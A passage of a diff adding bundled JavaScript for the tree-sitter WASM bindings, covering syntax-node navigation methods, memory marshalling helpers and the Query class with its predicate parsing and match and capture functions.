+    marshalNode(this);
+    C._ts_node_next_named_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's previous *named* sibling.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get previousNamedSibling() {
+    marshalNode(this);
+    C._ts_node_prev_named_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the node's number of descendants, including one for the node itself. */
+  get descendantCount() {
+    marshalNode(this);
+    return C._ts_node_descendant_count_wasm(this.tree[0]);
+  }
+  /**
+   * Get this node's immediate parent.
+   * Prefer {@link Node#childWithDescendant} for iterating over this node's ancestors.
+   */
+  get parent() {
+    marshalNode(this);
+    C._ts_node_parent_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the node that contains `descendant`.
+   *
+   * Note that this can return `descendant` itself.
+   */
+  childWithDescendant(descendant) {
+    marshalNode(this);
+    marshalNode(descendant, 1);
+    C._ts_node_child_with_descendant_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest node within this node that spans the given byte range. */
+  descendantForIndex(start2, end = start2) {
+    if (typeof start2 !== "number" || typeof end !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, start2, "i32");
+    C.setValue(address + SIZE_OF_INT, end, "i32");
+    C._ts_node_descendant_for_index_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest named node within this node that spans the given byte range. */
+  namedDescendantForIndex(start2, end = start2) {
+    if (typeof start2 !== "number" || typeof end !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, start2, "i32");
+    C.setValue(address + SIZE_OF_INT, end, "i32");
+    C._ts_node_named_descendant_for_index_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest node within this node that spans the given point range. */
+  descendantForPosition(start2, end = start2) {
+    if (!isPoint(start2) || !isPoint(end)) {
+      throw new Error("Arguments must be {row, column} objects");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    marshalPoint(address, start2);
+    marshalPoint(address + SIZE_OF_POINT, end);
+    C._ts_node_descendant_for_position_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest named node within this node that spans the given point range. */
+  namedDescendantForPosition(start2, end = start2) {
+    if (!isPoint(start2) || !isPoint(end)) {
+      throw new Error("Arguments must be {row, column} objects");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    marshalPoint(address, start2);
+    marshalPoint(address + SIZE_OF_POINT, end);
+    C._ts_node_named_descendant_for_position_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Create a new {@link TreeCursor} starting from this node.
+   *
+   * Note that the given node is considered the root of the cursor,
+   * and the cursor cannot walk outside this node.
+   */
+  walk() {
+    marshalNode(this);
+    C._ts_tree_cursor_new_wasm(this.tree[0]);
+    return new TreeCursor(INTERNAL, this.tree);
+  }
+  /**
+   * Edit this node to keep it in-sync with source code that has been edited.
+   *
+   * This function is only rarely needed. When you edit a syntax tree with
+   * the {@link Tree#edit} method, all of the nodes that you retrieve from
+   * the tree afterward will already reflect the edit. You only need to
+   * use {@link Node#edit} when you have a specific {@link Node} instance that
+   * you want to keep and continue to use after an edit.
+   */
+  edit(edit) {
+    if (this.startIndex >= edit.oldEndIndex) {
+      this.startIndex = edit.newEndIndex + (this.startIndex - edit.oldEndIndex);
+      let subbedPointRow;
+      let subbedPointColumn;
+      if (this.startPosition.row > edit.oldEndPosition.row) {
+        subbedPointRow = this.startPosition.row - edit.oldEndPosition.row;
+        subbedPointColumn = this.startPosition.column;
+      } else {
+        subbedPointRow = 0;
+        subbedPointColumn = this.startPosition.column;
+        if (this.startPosition.column >= edit.oldEndPosition.column) {
+          subbedPointColumn = this.startPosition.column - edit.oldEndPosition.column;
+        }
+      }
+      if (subbedPointRow > 0) {
+        this.startPosition.row += subbedPointRow;
+        this.startPosition.column = subbedPointColumn;
+      } else {
+        this.startPosition.column += subbedPointColumn;
+      }
+    } else if (this.startIndex > edit.startIndex) {
+      this.startIndex = edit.newEndIndex;
+      this.startPosition.row = edit.newEndPosition.row;
+      this.startPosition.column = edit.newEndPosition.column;
+    }
+  }
+  /** Get the S-expression representation of this node. */
+  toString() {
+    marshalNode(this);
+    const address = C._ts_node_to_string_wasm(this.tree[0]);
+    const result = C.AsciiToString(address);
+    C._free(address);
+    return result;
+  }
+};
+
+// src/marshal.ts
+function unmarshalCaptures(query, tree, address, patternIndex, result) {
+  for (let i2 = 0, n = result.length; i2 < n; i2++) {
+    const captureIndex = C.getValue(address, "i32");
+    address += SIZE_OF_INT;
+    const node = unmarshalNode(tree, address);
+    address += SIZE_OF_NODE;
+    result[i2] = { patternIndex, name: query.captureNames[captureIndex], node };
+  }
+  return address;
+}
+__name(unmarshalCaptures, "unmarshalCaptures");
+function marshalNode(node, index = 0) {
+  let address = TRANSFER_BUFFER + index * SIZE_OF_NODE;
+  C.setValue(address, node.id, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startPosition.row, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startPosition.column, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node[0], "i32");
+}
+__name(marshalNode, "marshalNode");
+function unmarshalNode(tree, address = TRANSFER_BUFFER) {
+  const id = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  if (id === 0) return null;
+  const index = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const row = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const column = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const other = C.getValue(address, "i32");
+  const result = new Node(INTERNAL, {
+    id,
+    tree,
+    startIndex: index,
+    startPosition: { row, column },
+    other
+  });
+  return result;
+}
+__name(unmarshalNode, "unmarshalNode");
+function marshalTreeCursor(cursor, address = TRANSFER_BUFFER) {
+  C.setValue(address + 0 * SIZE_OF_INT, cursor[0], "i32");
+  C.setValue(address + 1 * SIZE_OF_INT, cursor[1], "i32");
+  C.setValue(address + 2 * SIZE_OF_INT, cursor[2], "i32");
+  C.setValue(address + 3 * SIZE_OF_INT, cursor[3], "i32");
+}
+__name(marshalTreeCursor, "marshalTreeCursor");
+function unmarshalTreeCursor(cursor) {
+  cursor[0] = C.getValue(TRANSFER_BUFFER + 0 * SIZE_OF_INT, "i32");
+  cursor[1] = C.getValue(TRANSFER_BUFFER + 1 * SIZE_OF_INT, "i32");
+  cursor[2] = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+  cursor[3] = C.getValue(TRANSFER_BUFFER + 3 * SIZE_OF_INT, "i32");
+}
+__name(unmarshalTreeCursor, "unmarshalTreeCursor");
+function marshalPoint(address, point) {
+  C.setValue(address, point.row, "i32");
+  C.setValue(address + SIZE_OF_INT, point.column, "i32");
+}
+__name(marshalPoint, "marshalPoint");
+function unmarshalPoint(address) {
+  const result = {
+    row: C.getValue(address, "i32") >>> 0,
+    column: C.getValue(address + SIZE_OF_INT, "i32") >>> 0
+  };
+  return result;
+}
+__name(unmarshalPoint, "unmarshalPoint");
+function marshalRange(address, range) {
+  marshalPoint(address, range.startPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, range.endPosition);
+  address += SIZE_OF_POINT;
+  C.setValue(address, range.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, range.endIndex, "i32");
+  address += SIZE_OF_INT;
+}
+__name(marshalRange, "marshalRange");
+function unmarshalRange(address) {
+  const result = {};
+  result.startPosition = unmarshalPoint(address);
+  address += SIZE_OF_POINT;
+  result.endPosition = unmarshalPoint(address);
+  address += SIZE_OF_POINT;
+  result.startIndex = C.getValue(address, "i32") >>> 0;
+  address += SIZE_OF_INT;
+  result.endIndex = C.getValue(address, "i32") >>> 0;
+  return result;
+}
+__name(unmarshalRange, "unmarshalRange");
+function marshalEdit(edit, address = TRANSFER_BUFFER) {
+  marshalPoint(address, edit.startPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, edit.oldEndPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, edit.newEndPosition);
+  address += SIZE_OF_POINT;
+  C.setValue(address, edit.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, edit.oldEndIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, edit.newEndIndex, "i32");
+  address += SIZE_OF_INT;
+}
+__name(marshalEdit, "marshalEdit");
+function unmarshalLanguageMetadata(address) {
+  const major_version = C.getValue(address, "i32");
+  const minor_version = C.getValue(address += SIZE_OF_INT, "i32");
+  const patch_version = C.getValue(address += SIZE_OF_INT, "i32");
+  return { major_version, minor_version, patch_version };
+}
+__name(unmarshalLanguageMetadata, "unmarshalLanguageMetadata");
+
+// src/query.ts
+var PREDICATE_STEP_TYPE_CAPTURE = 1;
+var PREDICATE_STEP_TYPE_STRING = 2;
+var QUERY_WORD_REGEX = /[\w-]+/g;
+var CaptureQuantifier = {
+  Zero: 0,
+  ZeroOrOne: 1,
+  ZeroOrMore: 2,
+  One: 3,
+  OneOrMore: 4
+};
+var isCaptureStep = /* @__PURE__ */ __name((step) => step.type === "capture", "isCaptureStep");
+var isStringStep = /* @__PURE__ */ __name((step) => step.type === "string", "isStringStep");
+var QueryErrorKind = {
+  Syntax: 1,
+  NodeName: 2,
+  FieldName: 3,
+  CaptureName: 4,
+  PatternStructure: 5
+};
+var QueryError = class _QueryError extends Error {
+  constructor(kind, info2, index, length) {
+    super(_QueryError.formatMessage(kind, info2));
+    this.kind = kind;
+    this.info = info2;
+    this.index = index;
+    this.length = length;
+    this.name = "QueryError";
+  }
+  static {
+    __name(this, "QueryError");
+  }
+  /** Formats an error message based on the error kind and info */
+  static formatMessage(kind, info2) {
+    switch (kind) {
+      case QueryErrorKind.NodeName:
+        return `Bad node name '${info2.word}'`;
+      case QueryErrorKind.FieldName:
+        return `Bad field name '${info2.word}'`;
+      case QueryErrorKind.CaptureName:
+        return `Bad capture name @${info2.word}`;
+      case QueryErrorKind.PatternStructure:
+        return `Bad pattern structure at offset ${info2.suffix}`;
+      case QueryErrorKind.Syntax:
+        return `Bad syntax at offset ${info2.suffix}`;
+    }
+  }
+};
+function parseAnyPredicate(steps, index, operator, textPredicates) {
+  if (steps.length !== 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}`
+    );
+  }
+  if (!isCaptureStep(steps[1])) {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}"`
+    );
+  }
+  const isPositive = operator === "eq?" || operator === "any-eq?";
+  const matchAll = !operator.startsWith("any-");
+  if (isCaptureStep(steps[2])) {
+    const captureName1 = steps[1].name;
+    const captureName2 = steps[2].name;
+    textPredicates[index].push((captures) => {
+      const nodes1 = [];
+      const nodes2 = [];
+      for (const c of captures) {
+        if (c.name === captureName1) nodes1.push(c.node);
+        if (c.name === captureName2) nodes2.push(c.node);
+      }
+      const compare = /* @__PURE__ */ __name((n1, n2, positive) => {
+        return positive ? n1.text === n2.text : n1.text !== n2.text;
+      }, "compare");
+      return matchAll ? nodes1.every((n1) => nodes2.some((n2) => compare(n1, n2, isPositive))) : nodes1.some((n1) => nodes2.some((n2) => compare(n1, n2, isPositive)));
+    });
+  } else {
+    const captureName = steps[1].name;
+    const stringValue = steps[2].value;
+    const matches = /* @__PURE__ */ __name((n) => n.text === stringValue, "matches");
+    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue, "doesNotMatch");
+    textPredicates[index].push((captures) => {
+      const nodes = [];
+      for (const c of captures) {
+        if (c.name === captureName) nodes.push(c.node);
+      }
+      const test = isPositive ? matches : doesNotMatch;
+      return matchAll ? nodes.every(test) : nodes.some(test);
+    });
+  }
+}
+__name(parseAnyPredicate, "parseAnyPredicate");
+function parseMatchPredicate(steps, index, operator, textPredicates) {
+  if (steps.length !== 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}.`
+    );
+  }
+  if (steps[1].type !== "capture") {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
+    );
+  }
+  if (steps[2].type !== "string") {
+    throw new Error(
+      `Second argument of \`#${operator}\` predicate must be a string. Got @${steps[2].name}.`
+    );
+  }
+  const isPositive = operator === "match?" || operator === "any-match?";
+  const matchAll = !operator.startsWith("any-");
+  const captureName = steps[1].name;
+  const regex = new RegExp(steps[2].value);
+  textPredicates[index].push((captures) => {
+    const nodes = [];
+    for (const c of captures) {
+      if (c.name === captureName) nodes.push(c.node.text);
+    }
+    const test = /* @__PURE__ */ __name((text, positive) => {
+      return positive ? regex.test(text) : !regex.test(text);
+    }, "test");
+    if (nodes.length === 0) return !isPositive;
+    return matchAll ? nodes.every((text) => test(text, isPositive)) : nodes.some((text) => test(text, isPositive));
+  });
+}
+__name(parseMatchPredicate, "parseMatchPredicate");
+function parseAnyOfPredicate(steps, index, operator, textPredicates) {
+  if (steps.length < 2) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected at least 1. Got ${steps.length - 1}.`
+    );
+  }
+  if (steps[1].type !== "capture") {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
+    );
+  }
+  const isPositive = operator === "any-of?";
+  const captureName = steps[1].name;
+  const stringSteps = steps.slice(2);
+  if (!stringSteps.every(isStringStep)) {
+    throw new Error(
+      `Arguments to \`#${operator}\` predicate must be strings.".`
+    );
+  }
+  const values = stringSteps.map((s) => s.value);
+  textPredicates[index].push((captures) => {
+    const nodes = [];
+    for (const c of captures) {
+      if (c.name === captureName) nodes.push(c.node.text);
+    }
+    if (nodes.length === 0) return !isPositive;
+    return nodes.every((text) => values.includes(text)) === isPositive;
+  });
+}
+__name(parseAnyOfPredicate, "parseAnyOfPredicate");
+function parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties) {
+  if (steps.length < 2 || steps.length > 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`
+    );
+  }
+  if (!steps.every(isStringStep)) {
+    throw new Error(
+      `Arguments to \`#${operator}\` predicate must be strings.".`
+    );
+  }
+  const properties = operator === "is?" ? assertedProperties : refutedProperties;
+  if (!properties[index]) properties[index] = {};
+  properties[index][steps[1].value] = steps[2]?.value ?? null;
+}
+__name(parseIsPredicate, "parseIsPredicate");
+function parseSetDirective(steps, index, setProperties) {
+  if (steps.length < 2 || steps.length > 3) {
+    throw new Error(`Wrong number of arguments to \`#set!\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`);
+  }
+  if (!steps.every(isStringStep)) {
+    throw new Error(`Arguments to \`#set!\` predicate must be strings.".`);
+  }
+  if (!setProperties[index]) setProperties[index] = {};
+  setProperties[index][steps[1].value] = steps[2]?.value ?? null;
+}
+__name(parseSetDirective, "parseSetDirective");
+function parsePattern(index, stepType, stepValueId, captureNames, stringValues, steps, textPredicates, predicates, setProperties, assertedProperties, refutedProperties) {
+  if (stepType === PREDICATE_STEP_TYPE_CAPTURE) {
+    const name2 = captureNames[stepValueId];
+    steps.push({ type: "capture", name: name2 });
+  } else if (stepType === PREDICATE_STEP_TYPE_STRING) {
+    steps.push({ type: "string", value: stringValues[stepValueId] });
+  } else if (steps.length > 0) {
+    if (steps[0].type !== "string") {
+      throw new Error("Predicates must begin with a literal value");
+    }
+    const operator = steps[0].value;
+    switch (operator) {
+      case "any-not-eq?":
+      case "not-eq?":
+      case "any-eq?":
+      case "eq?":
+        parseAnyPredicate(steps, index, operator, textPredicates);
+        break;
+      case "any-not-match?":
+      case "not-match?":
+      case "any-match?":
+      case "match?":
+        parseMatchPredicate(steps, index, operator, textPredicates);
+        break;
+      case "not-any-of?":
+      case "any-of?":
+        parseAnyOfPredicate(steps, index, operator, textPredicates);
+        break;
+      case "is?":
+      case "is-not?":
+        parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties);
+        break;
+      case "set!":
+        parseSetDirective(steps, index, setProperties);
+        break;
+      default:
+        predicates[index].push({ operator, operands: steps.slice(1) });
+    }
+    steps.length = 0;
+  }
+}
+__name(parsePattern, "parsePattern");
+var Query = class {
+  static {
+    __name(this, "Query");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for WASM
+  /** @internal */
+  exceededMatchLimit;
+  /** @internal */
+  textPredicates;
+  /** The names of the captures used in the query. */
+  captureNames;
+  /** The quantifiers of the captures used in the query. */
+  captureQuantifiers;
+  /**
+   * The other user-defined predicates associated with the given index.
+   *
+   * This includes predicates with operators other than:
+   * - `match?`
+   * - `eq?` and `not-eq?`
+   * - `any-of?` and `not-any-of?`
+   * - `is?` and `is-not?`
+   * - `set!`
+   */
+  predicates;
+  /** The properties for predicates with the operator `set!`. */
+  setProperties;
+  /** The properties for predicates with the operator `is?`. */
+  assertedProperties;
+  /** The properties for predicates with the operator `is-not?`. */
+  refutedProperties;
+  /** The maximum number of in-progress matches for this cursor. */
+  matchLimit;
+  /**
+   * Create a new query from a string containing one or more S-expression
+   * patterns.
+   *
+   * The query is associated with a particular language, and can only be run
+   * on syntax nodes parsed with that language. References to Queries can be
+   * shared between multiple threads.
+   *
+   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
+   */
+  constructor(language, source) {
+    const sourceLength = C.lengthBytesUTF8(source);
+    const sourceAddress = C._malloc(sourceLength + 1);
+    C.stringToUTF8(source, sourceAddress, sourceLength + 1);
+    const address = C._ts_query_new(
+      language[0],
+      sourceAddress,
+      sourceLength,
+      TRANSFER_BUFFER,
+      TRANSFER_BUFFER + SIZE_OF_INT
+    );
+    if (!address) {
+      const errorId = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      const errorByte = C.getValue(TRANSFER_BUFFER, "i32");
+      const errorIndex = C.UTF8ToString(sourceAddress, errorByte).length;
+      const suffix = source.slice(errorIndex, errorIndex + 100).split("\n")[0];
+      const word = suffix.match(QUERY_WORD_REGEX)?.[0] ?? "";
+      C._free(sourceAddress);
+      switch (errorId) {
+        case QueryErrorKind.Syntax:
+          throw new QueryError(QueryErrorKind.Syntax, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
+        case QueryErrorKind.NodeName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.FieldName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.CaptureName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.PatternStructure:
+          throw new QueryError(errorId, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
+      }
+    }
+    const stringCount = C._ts_query_string_count(address);
+    const captureCount = C._ts_query_capture_count(address);
+    const patternCount = C._ts_query_pattern_count(address);
+    const captureNames = new Array(captureCount);
+    const captureQuantifiers = new Array(patternCount);
+    const stringValues = new Array(stringCount);
+    for (let i2 = 0; i2 < captureCount; i2++) {
+      const nameAddress = C._ts_query_capture_name_for_id(
+        address,
+        i2,
+        TRANSFER_BUFFER
+      );
+      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
+      captureNames[i2] = C.UTF8ToString(nameAddress, nameLength);
+    }
+    for (let i2 = 0; i2 < patternCount; i2++) {
+      const captureQuantifiersArray = new Array(captureCount);
+      for (let j = 0; j < captureCount; j++) {
+        const quantifier = C._ts_query_capture_quantifier_for_id(address, i2, j);
+        captureQuantifiersArray[j] = quantifier;
+      }
+      captureQuantifiers[i2] = captureQuantifiersArray;
+    }
+    for (let i2 = 0; i2 < stringCount; i2++) {
+      const valueAddress = C._ts_query_string_value_for_id(
+        address,
+        i2,
+        TRANSFER_BUFFER
+      );
+      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
+      stringValues[i2] = C.UTF8ToString(valueAddress, nameLength);
+    }
+    const setProperties = new Array(patternCount);
+    const assertedProperties = new Array(patternCount);
+    const refutedProperties = new Array(patternCount);
+    const predicates = new Array(patternCount);
+    const textPredicates = new Array(patternCount);
+    for (let i2 = 0; i2 < patternCount; i2++) {
+      const predicatesAddress = C._ts_query_predicates_for_pattern(address, i2, TRANSFER_BUFFER);
+      const stepCount = C.getValue(TRANSFER_BUFFER, "i32");
+      predicates[i2] = [];
+      textPredicates[i2] = [];
+      const steps = new Array();
+      let stepAddress = predicatesAddress;
+      for (let j = 0; j < stepCount; j++) {
+        const stepType = C.getValue(stepAddress, "i32");
+        stepAddress += SIZE_OF_INT;
+        const stepValueId = C.getValue(stepAddress, "i32");
+        stepAddress += SIZE_OF_INT;
+        parsePattern(
+          i2,
+          stepType,
+          stepValueId,
+          captureNames,
+          stringValues,
+          steps,
+          textPredicates,
+          predicates,
+          setProperties,
+          assertedProperties,
+          refutedProperties
+        );
+      }
+      Object.freeze(textPredicates[i2]);
+      Object.freeze(predicates[i2]);
+      Object.freeze(setProperties[i2]);
+      Object.freeze(assertedProperties[i2]);
+      Object.freeze(refutedProperties[i2]);
+    }
+    C._free(sourceAddress);
+    this[0] = address;
+    this.captureNames = captureNames;
+    this.captureQuantifiers = captureQuantifiers;
+    this.textPredicates = textPredicates;
+    this.predicates = predicates;
+    this.setProperties = setProperties;
+    this.assertedProperties = assertedProperties;
+    this.refutedProperties = refutedProperties;
+    this.exceededMatchLimit = false;
+  }
+  /** Delete the query, freeing its resources. */
+  delete() {
+    C._ts_query_delete(this[0]);
+    this[0] = 0;
+  }
+  /**
+   * Iterate over all of the matches in the order that they were found.
+   *
+   * Each match contains the index of the pattern that matched, and a list of
+   * captures. Because multiple patterns can match the same set of nodes,
+   * one match may contain captures that appear *before* some of the
+   * captures from a previous match.
+   *
+   * @param {Node} node - The node to execute the query on.
+   *
+   * @param {QueryOptions} options - Options for query execution.
+   */
+  matches(node, options = {}) {
+    const startPosition = options.startPosition ?? ZERO_POINT;
+    const endPosition = options.endPosition ?? ZERO_POINT;
+    const startIndex = options.startIndex ?? 0;
+    const endIndex = options.endIndex ?? 0;
+    const matchLimit = options.matchLimit ?? 4294967295;
+    const maxStartDepth = options.maxStartDepth ?? 4294967295;
+    const timeoutMicros = options.timeoutMicros ?? 0;
+    const progressCallback = options.progressCallback;
+    if (typeof matchLimit !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    this.matchLimit = matchLimit;
+    if (endIndex !== 0 && startIndex > endIndex) {
+      throw new Error("`startIndex` cannot be greater than `endIndex`");
+    }
+    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
+      throw new Error("`startPosition` cannot be greater than `endPosition`");
+    }
+    if (progressCallback) {
+      C.currentQueryProgressCallback = progressCallback;
+    }
+    marshalNode(node);
+    C._ts_query_matches_wasm(
+      this[0],
+      node.tree[0],
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column,
+      startIndex,
+      endIndex,
+      matchLimit,
+      maxStartDepth,
+      timeoutMicros
+    );
+    const rawCount = C.getValue(TRANSFER_BUFFER, "i32");
+    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+    const result = new Array(rawCount);
+    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
+    let filteredCount = 0;
+    let address = startAddress;
+    for (let i2 = 0; i2 < rawCount; i2++) {
+      const patternIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureCount = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captures = new Array(captureCount);
+      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
+      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
+        result[filteredCount] = { pattern: patternIndex, patternIndex, captures };
+        const setProperties = this.setProperties[patternIndex];
+        result[filteredCount].setProperties = setProperties;
+        const assertedProperties = this.assertedProperties[patternIndex];
+        result[filteredCount].assertedProperties = assertedProperties;
+        const refutedProperties = this.refutedProperties[patternIndex];
+        result[filteredCount].refutedProperties = refutedProperties;
+        filteredCount++;
+      }
+    }
+    result.length = filteredCount;
+    C._free(startAddress);
+    C.currentQueryProgressCallback = null;
+    return result;
+  }
+  /**
+   * Iterate over all of the individual captures in the order that they
+   * appear.
+   *
+   * This is useful if you don't care about which pattern matched, and just
+   * want a single, ordered sequence of captures.
+   *
+   * @param {Node} node - The node to execute the query on.
+   *
+   * @param {QueryOptions} options - Options for query execution.
+   */
+  captures(node, options = {}) {
+    const startPosition = options.startPosition ?? ZERO_POINT;
+    const endPosition = options.endPosition ?? ZERO_POINT;
+    const startIndex = options.startIndex ?? 0;
+    const endIndex = options.endIndex ?? 0;
+    const matchLimit = options.matchLimit ?? 4294967295;
+    const maxStartDepth = options.maxStartDepth ?? 4294967295;
+    const timeoutMicros = options.timeoutMicros ?? 0;
+    const progressCallback = options.progressCallback;
+    if (typeof matchLimit !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    this.matchLimit = matchLimit;
+    if (endIndex !== 0 && startIndex > endIndex) {
+      throw new Error("`startIndex` cannot be greater than `endIndex`");
+    }
+    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
+      throw new Error("`startPosition` cannot be greater than `endPosition`");
+    }
+    if (progressCallback) {
+      C.currentQueryProgressCallback = progressCallback;
+    }
+    marshalNode(node);
+    C._ts_query_captures_wasm(
+      this[0],
+      node.tree[0],
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column,
+      startIndex,
+      endIndex,
+      matchLimit,
+      maxStartDepth,
+      timeoutMicros
+    );
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+    const result = new Array();
+    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
+    const captures = new Array();
+    let address = startAddress;
+    for (let i2 = 0; i2 < count; i2++) {
+      const patternIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureCount = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      captures.length = captureCount;
+      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
+      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
+        const capture = captures[captureIndex];
+        const setProperties = this.setProperties[patternIndex];
+        capture.setProperties = setProperties;
+        const assertedProperties = this.assertedProperties[patternIndex];
+        capture.assertedProperties = assertedProperties;
+        const refutedProperties = this.refutedProperties[patternIndex];
+        capture.refutedProperties = refutedProperties;
+        result.push(capture);
+      }
+    }
+    C._free(startAddress);
+    C.currentQueryProgressCallback = null;
+    return result;
+  }
+  /** Get the predicates for a given pattern. */
+  predicatesForPattern(patternIndex) {
+    return this.predicates[patternIndex];
+  }
+  /**
+   * Disable a certain capture within a query.
+   *
+   * This prevents the capture from being returned in matches, and also
+   * avoids any resource usage associated with recording the capture.
+   */
+  disableCapture(captureName) {
+    const captureNameLength = C.lengthBytesUTF8(captureName);
+    const captureNameAddress = C._malloc(captureNameLength + 1);
+    C.stringToUTF8(captureName, captureNameAddress, captureNameLength + 1);
+    C._ts_query_disable_capture(this[0], captureNameAddress, captureNameLength);
+    C._free(captureNameAddress);
+  }
+  /**
+   * Disable a certain pattern within a query.
+   *
+   * This prevents the pattern from matching, and also avoids any resource
+   * usage associated with the pattern. This throws an error if the pattern
+   * index is out of bounds.
+   */
+  disablePattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    C._ts_query_disable_pattern(this[0], patternIndex);
+  }
+  /**
+   * Check if, on its last execution, this cursor exceeded its maximum number
+   * of in-progress matches.
+   */
+  didExceedMatchLimit() {
+    return this.exceededMatchLimit;
+  }
+  /** Get the byte offset where the given pattern starts in the query's source. */
+  startIndexForPattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    return C._ts_query_start_byte_for_pattern(this[0], patternIndex);
+  }
+  /** Get the byte offset where the given pattern ends in the query's source. */
+  endIndexForPattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    return C._ts_query_end_byte_for_pattern(this[0], patternIndex);
+  }
+  /** Get the number of patterns in the query. */
+  patternCount() {
+    return C._ts_query_pattern_count(this[0]);
+  }
+  /** Get the index for a given capture name. */
+  captureIndexForName(captureName) {
+    return this.captureNames.indexOf(captureName);
+  }
+  /** Check if a given pattern within a query has a single root node. */
+  isPatternRooted(patternIndex) {
+    return C._ts_query_is_pattern_rooted(this[0], patternIndex) === 1;
+  }
+  /** Check if a given pattern within a query has a single root node. */
+  isPatternNonLocal(patternIndex) {
+    return C._ts_query_is_pattern_non_local(this[0], patternIndex) === 1;
+  }
+  /**
+   * Check if a given step in a query is 'definite'.
+   *
